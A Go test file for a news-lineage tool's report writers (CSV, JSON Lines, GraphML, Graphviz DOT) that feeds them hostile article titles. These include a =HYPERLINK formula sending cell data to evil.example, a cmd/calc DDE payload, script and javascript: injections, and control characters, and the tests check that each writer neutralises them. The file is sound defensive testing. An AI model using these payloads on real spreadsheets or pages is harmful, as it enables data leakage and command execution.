package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os/exec"
	"slices"
	"strings"
	"testing"

	"github.com/samestory/samestory"
	"github.com/samestory/samestory/article"
	"github.com/samestory/samestory/compare"
	"github.com/samestory/samestory/report"
	"github.com/samestory/samestory/wire"
)

// traced is the sample with its lineage known, credits, and a story of titles that try to be commands.
func traced() *samestory.Report {
	r := sample()
	const coast = "https://coast.example/news/2026/03/14/freighter-aground"
	r.Stories[0].Descents = []samestory.Descent{
		{ID: coast, From: "wire/1", Why: "published later, credits Wire"},
		{ID: "north/77", From: coast, Why: "its text is \"contained\" <there>"},
		{ID: "zh/5", Why: "shares no text with another"},
	}
	for i := range r.Articles {
		if r.Articles[i].ID == coast {
			r.Articles[i].Credits = []samestory.Credit{
				{Agency: "Wire", How: wire.Dateline}, {Agency: "Wire", How: wire.Byline}, {Agency: "Snaps", How: wire.Photo},
			}
		}
	}
	hostile(r)
	return r
}

// hostileTitles are what articles may be called.
var hostileTitles = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"more")`, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1", "＝1+1",
	`5 degrees; =1+1`, `a;"=1+1"`, `say "yes" \N \G \n, \`, "</data></node><script>alert(1)</script>&amp;&lt;&#x41;",
	"two\nlines\rand\x00NUL \x1b[31mred", "\u202egnirts desrever\u202c", "أخبار الميناء اليوم", "broken \xff utf-8", "]]>", "<b>label</b>",
	`"];}digraph evil{`, "'quoted'", "", "👩‍👩‍👧 family",
}

// hostile adds a story with an article of each hostile title, all copied from the first.
func hostile(r *samestory.Report) {
	s := samestory.Story{ID: "s3", Outlets: 1, Independent: 1, Reason: "=cmd()"}
	for i, title := range hostileTitles {
		id := fmt.Sprintf("h/%02d", i)
		r.Articles = append(r.Articles, samestory.Entry{
			ID: id, Outlet: "=outlet\"\\", Title: title, URL: `javascript:alert("1")`, Words: 9, Published: at(12, i), Precision: article.ToMinute,
		})
		s.Articles = append(s.Articles, id)
		if i > 0 {
			s.Descents = append(s.Descents, samestory.Descent{ID: id, From: "h/00", Why: "-" + title})
			r.Links = append(r.Links, samestory.Link{A: "h/00", B: id, Kind: compare.Reprint, Similarity: 0.9, SameStory: 1})
		}
	}
	r.Articles[len(r.Articles)-1].URL = `https://host.example/?a="1"&b=\N`
	s.Original = "h/00"
	s.Clusters = []samestory.Cluster{{Articles: s.Articles, Original: "h/00"}}
	r.Stories = append(r.Stories, s)
}

// formats are the writers of this file, with the golden file of each.
var formats = []struct {
	golden string
	write  func(io.Writer, *samestory.Report) error
}{
	{"links.csv", report.LinksCSV},
	{"stories.csv", report.StoriesCSV},
	{"articles.csv", report.ArticlesCSV},
	{"stories.jsonl", report.JSONLines},
	{"lineage.graphml", report.GraphML},
	{"lineage.dot", report.DOT},
}

func TestFormatsGolden(t *testing.T) {
	for _, f := range formats {
		golden(t, f.golden, []byte(text(t, func(b *bytes.Buffer) error { return f.write(b, traced()) })))
	}
}

// TestFormatsPassErrors holds that the first error of the writer comes back, wherever it strikes.
func TestFormatsPassErrors(t *testing.T) {
	for _, f := range formats {
		whole := text(t, func(b *bytes.Buffer) error { return f.write(b, traced()) })
		for n := 0; n < len(whole); n += 1 + len(whole)/50 {
			room := failAfter(n)
			if err := f.write(&room, traced()); !errors.Is(err, errFull) {
				t.Fatalf("%s: with room for %d of %d bytes: %v, want %v", f.golden, n, len(whole), err, errFull)
			}
		}
	}
}

// TestFormatsOfNothing holds that what is empty, or names what is not there, can be written.
func TestFormatsOfNothing(t *testing.T) {
	odd := &samestory.Report{
		Articles: make([]samestory.Entry, 1),
		Links:    []samestory.Link{{A: "x", B: "y"}},
		Stories: []samestory.Story{{
			Articles: []string{"gone", "gone", "y"}, Original: "lost", Clusters: make([]samestory.Cluster, 1),
			Descents: []samestory.Descent{{ID: "gone", From: "nobody"}, {ID: "y", From: "gone"}, {ID: "z", From: "y"}},
		}},
	}
	for _, f := range formats {
		for _, r := range []*samestory.Report{{}, odd} {
			if err := f.write(io.Discard, r); err != nil {
				t.Errorf("%s: %v", f.golden, err)
			}
		}
	}
	got := text(t, func(b *bytes.Buffer) error { return report.JSONLines(b, odd) })
	if strings.Contains(got, "null") || strings.Count(got, "\n") != 1 {
		t.Errorf("JSONLines wrote %q, want one line without null", got)
	}
}

// TestCSVIsSafe holds that no cell is a formula, in tables cut at commas and at semicolons.
func TestCSVIsSafe(t *testing.T) {
	r := traced()
	r.Texts = nil
	for _, f := range formats[:3] {
		got := text(t, func(b *bytes.Buffer) error { return f.write(b, r) })
		for _, comma := range []rune{',', ';'} {
			in := csv.NewReader(strings.NewReader(got))
			in.Comma, in.LazyQuotes, in.FieldsPerRecord = comma, true, -1
			rows, err := in.ReadAll()
			if err != nil {
				t.Fatalf("%s, cut at %q: %v", f.golden, comma, err)
			}
			for _, cell := range slices.Concat(rows...) {
				if s := strings.TrimLeft(cell, " \t\r\n\""); s != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(s)[0]) {
					t.Errorf("%s, cut at %q: a cell is a formula: %q", f.golden, comma, cell)
				}
				if strings.ContainsAny(cell, "\x00\x1b\r\n\u202e") {
					t.Errorf("%s: a cell has control characters: %q", f.golden, cell)
				}
			}
		}
	}
}

// TestTablesAgree reads the tables back: they have the shape that their first row says, and tell of the same stories.
func TestTablesAgree(t *testing.T) {
	r := traced()
	for i, want := range []int{len(r.Links), len(r.Stories), len(r.Articles)} {
		rows, err := csv.NewReader(strings.NewReader(text(t, func(b *bytes.Buffer) error { return formats[i].write(b, r) }))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows)-1 != want {
			t.Errorf("%s has %d rows, want %d", formats[i].golden, len(rows)-1, want)
		}
	}
}

func TestJSONLines(t *testing.T) {
	r := traced()
	lines := strings.Split(strings.TrimSuffix(text(t, func(b *bytes.Buffer) error { return report.JSONLines(b, r) }), "\n"), "\n")
	if len(lines) != len(r.Stories) {
		t.Fatalf("%d lines for %d stories", len(lines), len(r.Stories))
	}
	for i, line := range lines {
		var s struct {
			ID       string
			Articles []string
			Members  []struct{ ID, Title string }
			Links    []struct{ A, B string }
		}
		if err := json.Unmarshal([]byte(line), &s); err != nil {
			t.Fatalf("line %d: %v", i+1, err)
		}
		for k, m := range s.Members {
			if m.ID != s.Articles[k] {
				t.Errorf("%s: member %d is %s, want %s", s.ID, k, m.ID, s.Articles[k])
			}
		}
		for _, l := range s.Links {
			if !slices.Contains(s.Articles, l.A) || !slices.Contains(s.Articles, l.B) {
				t.Errorf("%s: link of %s and %s, which are not both in the story", s.ID, l.A, l.B)
			}
		}
		if want := []int{4, 1, len(hostileTitles) - 1}[i]; len(s.Links) != want || len(s.Members) != len(r.Stories[i].Articles) {
			t.Errorf("%s: %d links and %d members, want %d and %d", s.ID, len(s.Links), len(s.Members), want, len(r.Stories[i].Articles))
		}
	}
}

func TestOneStory(t *testing.T) {
	r := traced()
	one, ok := report.OneStory(r, "s1")
	if !ok || len(one.Stories) != 1 || len(one.Articles) != 4 || len(one.Links) != 4 || len(one.Problems) != len(r.Problems) {
		t.Fatalf("OneStory(s1) = %+v, %v, want 1 story, 4 articles, 4 links", one, ok)
	}
	if len(r.Stories) != 3 {
		t.Errorf("the report itself has %d stories now", len(r.Stories))
	}
	if _, ok := report.OneStory(r, "s9"); ok {
		t.Error("OneStory found a story that is not there")
	}
}

// graphML is what a reader of GraphML sees.
type graphML struct {
	Keys []struct {
		ID  string `xml:"id,attr"`
		For string `xml:"for,attr"`
	} `xml:"key"`
	Graph struct {
		Edgedefault string `xml:"edgedefault,attr"`
		Nodes       []struct {
			ID   string     `xml:"id,attr"`
			Data []factData `xml:"data"`
		} `xml:"node"`
		Edges []struct {
			Source string     `xml:"source,attr"`
			Target string     `xml:"target,attr"`
			Data   []factData `xml:"data"`
		} `xml:"edge"`
	} `xml:"graph"`
}

type factData struct {
	Key   string `xml:"key,attr"`
	Value string `xml:",chardata"`
}

func fact(data []factData, key string) string {
	for _, d := range data {
		if d.Key == key {
			return d.Value
		}
	}
	return ""
}

func TestGraphML(t *testing.T) {
	r := traced()
	var g graphML
	if err := xml.Unmarshal([]byte(text(t, func(b *bytes.Buffer) error { return report.GraphML(b, r) })), &g); err != nil {
		t.Fatal(err)
	}
	keys := map[string]string{}
	for _, k := range g.Keys {
		keys[k.ID] = k.For
	}
	articles := map[string]string{}
	for _, n := range g.Graph.Nodes {
		if articles[n.ID] != "" {
			t.Errorf("two nodes are called %s", n.ID)
		}
		articles[n.ID] = fact(n.Data, "article")
		for _, d := range n.Data {
			if keys[d.Key] != "node" {
				t.Errorf("%s has a fact %q that no key for nodes declares", n.ID, d.Key)
			}
		}
		var i int
		if _, err := fmt.Sscanf(articles[n.ID], "h/%d", &i); err == nil {
			if got, want := fact(n.Data, "title"), report.Printable(hostileTitles[i]); got != want {
				t.Errorf("title %q came back as %q", want, got)
			}
		}
	}
	var edges []string
	for _, e := range g.Graph.Edges {
		for _, d := range e.Data {
			if keys[d.Key] != "edge" {
				t.Errorf("an edge has a fact %q that no key for edges declares", d.Key)
			}
		}
		edges = append(edges, articles[e.Source]+" > "+articles[e.Target]+" "+fact(e.Data, "kind")+" "+fact(e.Data, "similarity"))
	}
	want := []string{
		"wire/1 > https://coast.example/news/2026/03/14/freighter-aground identical 1",
		"https://coast.example/news/2026/03/14/freighter-aground > north/77 excerpt 1",
	}
	if len(articles) != 6+len(hostileTitles) || len(edges) != 1+len(hostileTitles) || !slices.Equal(edges[:2], want) {
		t.Errorf("%d nodes and edges %q, want %d nodes and edges that begin %q", len(articles), edges, 6+len(hostileTitles), want)
	}
}

// TestDOT has Graphviz draw the graph, and looks for every title in the picture, to the letter.
func TestDOT(t *testing.T) {
	dot, err := exec.LookPath("dot")
	if err != nil {
		t.Fatal("this test needs Graphviz: apt-get install graphviz")
	}
	r := traced()
	cmd := exec.Command(dot, "-Tsvg")
	cmd.Stdin = strings.NewReader(text(t, func(b *bytes.Buffer) error { return report.DOT(b, r) }))
	var complaints strings.Builder
	cmd.Stderr = &complaints
	drawn, err := cmd.Output()
	if err != nil || complaints.String() != "" {
		t.Fatalf("dot: %v: %s", err, complaints.String())
	}
	seen, links := drawing(t, drawn)
	for _, title := range hostileTitles[:len(hostileTitles)-2] {
		if want := report.Printable(title); !strings.Contains(seen, want) {
			t.Errorf("title %q is not in the picture", want)
		}
	}
	for _, want := range []string{
		"Wire\n", "agency: Wire\n", "identical 100%\n", "2026-03-14 08:05\n", "4 articles from 4 outlets, 2 independent",
	} {
		if !strings.Contains(seen, want) {
			t.Errorf("%q is not in the picture:\n%s", want, seen)
		}
	}
	if want := []string{"https://coast.example/a", "https://host.example/?a=%221%22&b=%5CN"}; !slices.Equal(links, want) {
		t.Errorf("the picture links to %q, want %q", links, want)
	}
}

// drawing returns the texts of a picture, a line each, and its links.
func drawing(t *testing.T, svg []byte) (texts string, links []string) {
	t.Helper()
	var b strings.Builder
	d := xml.NewDecoder(bytes.NewReader(svg))
	d.Entity = xml.HTMLEntity
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			// Graphviz writes spaces that must not be lost as hard ones.
			return strings.ReplaceAll(b.String(), "\u00a0", " "), links
		}
		if err != nil {
			t.Fatalf("the picture is no XML: %v", err)
		}
		switch token := token.(type) {
		case xml.CharData:
			b.Write(token)
		case xml.EndElement:
			b.WriteByte('\n')
		case xml.StartElement:
			for _, a := range token.Attr {
				if a.Name.Local == "href" && strings.Contains(a.Value, ":") {
					links = append(links, a.Value)
				}
			}
		}
	}
}

// FuzzFormats holds that whatever report can be read can be written in all formats, and that XML and JSON can be read again.
func FuzzFormats(f *testing.F) {
	f.Add([]byte(written(report.JSON)))
	f.Add([]byte(`{"articles":[{"id":"a","title":"\u0000]]>\\"}],"links":[],"stories":[{"articles":["a","a"],"original":"b"}],"problems":[]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := report.ReadJSON(bytes.NewReader(data))
		if err != nil {
			return
		}
		outputs := map[string]string{}
		for _, f := range formats {
			outputs[f.golden] = text(t, func(b *bytes.Buffer) error { return f.write(b, r) })
		}
		var g graphML
		if err := xml.Unmarshal([]byte(outputs["lineage.graphml"]), &g); err != nil {
			t.Fatalf("GraphML: %v\n%s", err, outputs["lineage.graphml"])
		}
		for line := range strings.Lines(outputs["stories.jsonl"]) {
			if !json.Valid([]byte(line)) {
				t.Fatalf("no JSON: %s", line)
			}
		}
		if n := strings.Count(outputs["stories.jsonl"], "\n"); n != len(r.Stories) {
			t.Fatalf("%d lines for %d stories", n, len(r.Stories))
		}
	})
}

// written returns what a writer makes of the traced report.
func written(write func(io.Writer, *samestory.Report) error) string {
	var b bytes.Buffer
	if err := write(&b, traced()); err != nil {
		panic(err)
	}
	return b.String()
}
